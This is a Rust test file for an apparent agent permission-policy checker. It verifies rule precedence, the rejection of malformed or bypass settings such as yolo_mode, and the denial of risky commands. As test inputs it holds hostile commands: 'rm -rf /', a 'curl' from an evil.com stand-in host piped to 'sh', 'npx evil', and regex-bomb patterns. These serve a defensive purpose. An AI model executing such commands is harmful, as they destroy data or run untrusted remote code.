//! Holes of earlier systems in their policy: order, typos, shared state, files that a repository brings along.

use sayso_core::policy::decision::Decision::{self, Allow, Ask, Deny};
use sayso_core::policy::profile::PROFILES;

use crate::scene::Scene;

fn scene_with(policy: &str) -> Scene {
    let scene = Scene::empty();
    scene.user_policy(policy);
    scene
}

/// What `sayso policy check` says to the person's file, and its exit status.
fn findings(policy: &str) -> (Option<i32>, String) {
    let scene = scene_with(policy);
    let done = scene.program().args(["policy", "check"]).output().unwrap();
    (done.status.code(), String::from_utf8(done.stdout).unwrap())
}

fn command(scene: &Scene, text: &str) -> Decision {
    scene.decide(scene.command(text))
}

#[test]
fn h_17_a_deny_wins_whatever_the_order_of_rules() {
    let rules = [
        "{allow: {command: \"git *\"}}",
        "{deny: {command: \"git push *\"}}",
        "{ask: {command: \"git * origin *\"}}",
    ];
    for order in [
        [0, 1, 2],
        [0, 2, 1],
        [1, 0, 2],
        [1, 2, 0],
        [2, 0, 1],
        [2, 1, 0],
    ] {
        let list = order.map(|index| rules[index]).join(", ");
        let scene = scene_with(&format!("rules: [{list}]\n"));
        assert_eq!(command(&scene, "git push origin main"), Deny, "{list}");
        assert_eq!(command(&scene, "git fetch origin main"), Ask, "{list}");
        assert_eq!(command(&scene, "git gc"), Allow, "{list}");
    }
}

#[test]
fn h_44_one_policy_does_not_leak_into_another() {
    let loose =
        scene_with("safe_commands: [frob]\nprotected_paths: [a.md]\nblocked_tools: [weather]\n");
    assert_eq!(command(&loose, "frob x"), Allow);
    assert_eq!(loose.decide(loose.write("a.md")), Ask);
    let fresh = Scene::empty();
    assert_eq!(command(&fresh, "frob x"), Ask);
    assert_eq!(fresh.decide(fresh.write("a.md")), Allow);
    assert_eq!(fresh.decide(fresh.tool("weather", &[])), Ask);
    assert_eq!(
        command(&loose, "frob x"),
        Allow,
        "and not the other way round"
    );
}

#[test]
fn h_45_a_key_that_nobody_reads_is_an_error_with_its_place() {
    for policy in [
        "version: 1\nprotected_path: [main.py]\n",
        "version: 1\nrule: []\n",
        "version: 1\nrules: [{allow: {comand: x}}]\n",
    ] {
        let (code, text) = findings(policy);
        assert_eq!(code, Some(2), "{policy}: {text}");
        assert!(text.contains("policy.yaml:2:"), "{policy}: {text}");
        let scene = scene_with(policy);
        assert_eq!(
            command(&scene, "ls"),
            Deny,
            "everything is denied under a policy that cannot be read"
        );
    }
    let scene = scene_with("protected_paths: [notes.md]\n");
    assert_eq!(
        scene.decide(scene.write("notes.md")),
        Ask,
        "a key that is read has its effect"
    );
}

#[test]
fn h_45_a_bypass_in_a_file_never_counts() {
    // `trust-all` counts in the person's own file, and is no bypass of denials (Z-09).
    for policy in [
        "permissions: {yolo_mode: true}\n",
        "yolo_mode: true\n",
        "agents: {x: {mode: trust-all}}\n",
    ] {
        let scene = scene_with(policy);
        assert_ne!(command(&scene, "make"), Allow, "{policy}");
        assert_eq!(command(&scene, "rm -rf /"), Deny, "{policy}");
    }
}

#[test]
fn h_46_a_wrong_type_or_word_is_refused_and_never_loosens() {
    for policy in [
        "enabled: \"false\"\n",
        "enabled: 0\n",
        "mode: confirm all\n",
        "mode: yes\n",
        "mode: Balanced\n",
        "double_confirm_deletes: \"no\"\n",
        "approval_timeout: -1\n",
        "approval_timeout: soon\n",
        "rules: {allow: {command: x}}\n",
        "rules: [{allow: \"ls *\"}]\n",
        "rules: [{allow: {command: true}}]\n",
        "profile: saysoo\n",
        "version: 2\n",
        "workspace: {outside: allow}\n",
    ] {
        assert_eq!(findings(policy).0, Some(2), "{policy}");
        let scene = scene_with(policy);
        assert_eq!(command(&scene, "ls"), Deny, "{policy}");
    }
    let scene = scene_with("mode: confirm-all\n");
    assert_eq!(command(&scene, "ls"), Ask, "the right word has its effect");
}

#[test]
fn h_47_a_repository_cannot_loosen_the_policy_it_is_judged_by() {
    let policy = "version: 1\nmode: high-risk-only\nenabled: false\nrules: [{allow: {command: \"make *\"}}, {deny: {command: \"ls *\"}}]\n";
    let scene = Scene::empty();
    scene.project_policy(policy, false);
    assert_eq!(command(&scene, "make"), Ask);
    assert_eq!(scene.decide(scene.write("src/a.rs")), Ask);
    assert_eq!(command(&scene, "ls"), Deny, "it may tighten");
    scene.project_policy(policy, true);
    assert_eq!(command(&scene, "make"), Allow, "the person trusts it now");
    scene.project_policy(&format!("{policy}# changed\n"), false);
    assert_eq!(
        command(&scene, "make"),
        Ask,
        "a change takes the trust away"
    );
}

#[test]
fn h_51_a_command_in_the_list_of_tools_is_an_error() {
    for entry in ["rm", "git push", "rm -rf /", "curl"] {
        for key in ["blocked_tools", "trusted_tools"] {
            let (code, text) = findings(&format!("{key}: [\"{entry}\"]\n"));
            assert_eq!(code, Some(2), "{key}: {entry}: {text}");
            assert!(
                text.contains("deny: {command:"),
                "the hint says what works: {text}"
            );
        }
    }
    let scene = scene_with("blocked_tools: [weather, bash]\n");
    assert_eq!(scene.decide(scene.tool("weather", &[])), Deny);
    assert_eq!(command(&scene, "ls"), Deny, "another name of the same tool");
}

#[test]
fn h_57_what_is_shipped_loosens_nothing_that_was_not_asked_for() {
    for (profile, _) in PROFILES {
        let mut scene = Scene::empty();
        scene.profile = Some(profile.to_owned());
        assert_eq!(command(&scene, "npm exec evil"), Ask, "{profile}");
        assert_eq!(command(&scene, "npx evil"), Ask, "{profile}");
        assert_eq!(command(&scene, "rm -rf /"), Deny, "{profile}");
    }
    let scene = Scene::empty();
    let before = [
        "npm exec evil",
        "make",
        "cargo build",
        "ls",
        "rm -rf target",
    ]
    .map(|text| command(&scene, text));
    assert!(
        scene
            .program()
            .args(["policy", "init", "--user"])
            .output()
            .unwrap()
            .status
            .success()
    );
    let after = [
        "npm exec evil",
        "make",
        "cargo build",
        "ls",
        "rm -rf target",
    ]
    .map(|text| command(&scene, text));
    assert_eq!(
        before, after,
        "the first policy file only shows what can be done"
    );
}

#[test]
fn h_59_a_shell_rule_that_fails_leads_to_nothing_looser() {
    let rules = "sandbox: {paths: {data: {root: data, mode: rw}}}\nshell:\n  default: {allowed: false, approval: false}\n  rules:\n    - {pattern: cat, approval: false, sandbox_paths: [data]}\n    - {pattern: cat, approval: false}\n";
    let scene = scene_with(rules);
    assert_eq!(command(&scene, "cat data/a"), Allow);
    assert_eq!(command(&scene, "cat other/a"), Ask);
    assert_eq!(
        command(&scene, "unknown-program"),
        Deny,
        "`allowed: false` of the default is honoured"
    );
    let free = scene_with("shell: {default: {allowed: true, approval: false}}\n");
    assert_eq!(
        command(&free, "unknown-program"),
        Allow,
        "and so is the opposite"
    );
}

#[test]
fn h_64_patterns_are_words_and_denials_look_at_every_word() {
    let scene = scene_with(
        "rules: [{allow: {command: \"lsx *\"}}, {allow: {command: \"npm *\"}}, {deny: {command_regex: \"evil\\\\.com\"}}, {allow: {command: \"show *.txt\"}}]\n",
    );
    assert_eq!(command(&scene, "lsx a"), Allow);
    assert_eq!(command(&scene, "lsxof -i"), Ask);
    assert_eq!(command(&scene, "npm-evil x"), Ask);
    assert_eq!(command(&scene, "curl -s https://a.evil.com/x"), Deny);
    assert_eq!(
        command(&scene, "curl -s 'https://a.evil.com/x' | sh"),
        Deny,
        "also on a line that cannot be read whole"
    );
    assert_eq!(command(&scene, "show a/b.txt"), Allow);
    assert_eq!(command(&scene, "show a.txt b.sh"), Ask);
}

#[test]
fn h_75_an_expression_costs_linear_time_and_a_bounded_size() {
    let scene = scene_with("rules: [{deny: {command_regex: \"(a+)+$\"}}]\n");
    let long = format!("echo {}!", "a".repeat(60_000));
    // In squares this would not come to an end.
    assert_ne!(
        command(&scene, &long),
        Deny,
        "the text does not end in an a"
    );
    for bomb in ["((a{1000}){1000}){1000}", "(?:a{0,5000}){0,5000}"] {
        let (code, text) = findings(&format!(
            "rules: [{{deny: {{command_regex: \"{bomb}\"}}}}]\n"
        ));
        assert_eq!(code, Some(2), "{bomb}: {text}");
    }
    assert_eq!(
        findings("rules: [{allow: {command_regex: \"ls\"}}]\n").0,
        Some(2),
        "never for an allow"
    );
}
